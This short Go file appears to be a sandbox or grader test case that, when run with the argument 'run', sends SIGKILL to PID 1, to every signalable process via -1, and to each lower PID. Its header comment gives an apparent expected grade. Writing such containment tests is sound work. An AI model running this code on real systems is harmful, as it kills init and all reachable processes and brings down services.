// Tries: to kill all that it can see, its first process among them.
// Deserves: full
package main

import (
	"os"
	"syscall"
)

func init() {
	if len(os.Args) > 1 && os.Args[1] == "run" {
		syscall.Kill(1, syscall.SIGKILL)
		syscall.Kill(-1, syscall.SIGKILL)
		for pid := 2; pid < os.Getpid(); pid++ {
			syscall.Kill(pid, syscall.SIGKILL)
		}
	}
}
